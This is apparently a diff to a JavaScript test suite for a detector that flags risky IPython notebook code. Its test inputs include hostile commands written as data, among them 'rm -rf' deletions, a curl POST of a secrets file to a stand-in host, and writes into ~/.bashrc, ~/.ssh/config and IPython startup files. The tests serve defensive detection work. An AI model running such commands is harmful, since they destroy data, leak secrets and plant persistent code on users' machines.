@@ -160,6 +160,36 @@ describe('risky code check', () => {
     ]);
   });
 
+  describe("IPython's own ways to run commands", () => {
+    check([
+      ['system rm -rf ~/project', ['runsShell: runs shell commands (%system)', 'deletesFiles: deletes files (rm -rf)']],
+      ['sx curl -X POST -d @secrets http://x', ['runsShell: runs shell commands (%sx)', 'networkWrite: sends data over the network (curl)']],
+      ['sc out=rm -rf data', ['runsShell: runs shell commands (%sc)', 'deletesFiles: deletes files (rm -rf)']],
+      ['%sc -l out=rm x', ['runsShell: runs shell commands (%sc)', 'deletesFiles: deletes files (rm)']],
+      ['alias nuke rm -rf', ['runsShell: defines a shell command (%alias nuke)', 'deletesFiles: deletes files (rm -rf)']],
+      ['%alias show echo', ['runsShell: defines a shell command (%alias show)']],
+      ['nuke ~/project', ['runsShell: may run a shell command (IPython runs "nuke" as an alias or magic)']],
+      ['  nuke "a dir"  ', ['runsShell: may run a shell command (IPython runs "nuke" as an alias or magic)']],
+      ['cp data.csv ~/.bashrc', ['writesOutsideWorkspace: writes outside the working folder (~/.bashrc)']],
+      ['!cp ~/.bashrc backup.txt', ['runsShell: runs shell commands (!cp)']],
+      ['mkdir /etc/app', ['writesOutsideWorkspace: writes outside the working folder (/etc/app)']],
+      ['run script.py', ['runsDynamicCode: runs another file (%run)']],
+      ['%rerun 3', ['runsDynamicCode: runs earlier input again (%rerun)']],
+      ['%save ~/.ipython/startup/x.py 1-3', ['writesOutsideWorkspace: writes outside the working folder (~/.ipython/startup/x.py)']],
+      ['import IPython\nIPython.get_ipython().system("rm -rf x")', ['runsShell: runs shell commands (get_ipython().system) @2', 'deletesFiles: deletes files (rm -rf) @2']],
+      ['from IPython import get_ipython as g\ng().system("ls")', ['runsShell: runs shell commands (get_ipython().system) @2']],
+      ['get_ipython().system_piped("rm -rf x")', ['runsShell: runs shell commands (get_ipython().system_piped)', 'deletesFiles: deletes files (rm -rf)']],
+      ['get_ipython().run_line_magic("alias", "nuke rm -rf")', ['runsShell: defines a shell command (%alias nuke)', 'deletesFiles: deletes files (rm -rf)']],
+      ['get_ipython().run_line_magic("system", "rm -rf x")', ['runsShell: runs shell commands (%system)', 'deletesFiles: deletes files (rm -rf)']],
+      ['get_ipython().alias_manager.define_alias("nuke", "rm -rf")', ['runsShell: defines a shell command (%alias nuke)', 'deletesFiles: deletes files (rm -rf)']],
+    ]);
+    describe('Python and harmless magics are not commands', () => {
+      for (const code of ['matplotlib inline', 'pip list', 'cd data', 'timeit sum(range(10))', 'x', 'print (x)', 'lambda x: x', 'await main()', 'df.head()', 'a = b', 'x if y else z', 'n in items', 'print(x)  # nuke ~/x', 'x = 1\nnuke ~/project', 'system = "linux"', 'cp = copy.copy', 'type Point = tuple[int, int]']) {
+        it(JSON.stringify(code), () => assert.deepEqual(render(findRisks(code)), []));
+      }
+    });
+  });
+
   describe('package installs', () => {
     check([
       ['!pip install pandas', ['runsShell: runs shell commands (!pip)', 'installsPackages: installs packages (pip install)']],
@@ -220,6 +250,22 @@ describe('risky code check', () => {
       ['%%writefile /etc/x.conf\nkey = 1', ['writesOutsideWorkspace: writes outside the working folder (/etc/x.conf)']],
       ['%%writefile script.py\nimport os\nos.remove(x)', []],
     ]);
+    describe('into the home folder through a path computed at run time', () => {
+      const home = 'writesOutsideWorkspace: writes outside the working folder (the home folder)';
+      check([
+        ['open(os.path.expanduser("~/.bashrc"), "a").write(x)', [home]],
+        ['Path("~/.ssh/config").expanduser().write_text(cfg)', [home]],
+        ['(Path.home() / ".bashrc").write_text(x)', [home]],
+        ['rc = Path.home() / ".bashrc"\nwith open(rc, "a") as f:\n    f.write(x)', [`${home} @2`]],
+        ['base = os.environ["HOME"]\ntarget = os.path.join(base, ".profile")\nshutil.copy("p", target)', [`${home} @3`]],
+        ['df.to_csv(os.path.join(os.getenv("USERPROFILE"), "out.csv"))', [home]],
+        // Reading from the home folder, or a variable that no longer names it, is fine.
+        ['open(os.path.expanduser("~/.config/app.json")).read()', []],
+        ['cfg = Path.home() / ".config"\nprint(cfg.read_text())', []],
+        ['out = Path.home()\nout = Path("results")\nout.write_text(x)', []],
+        ['os.environ["MPLBACKEND"] = "Agg"\nopen("x.txt", "w")', []],
+      ]);
+    });
   });
 
   describe('environment changes and code that cannot be read', () => {
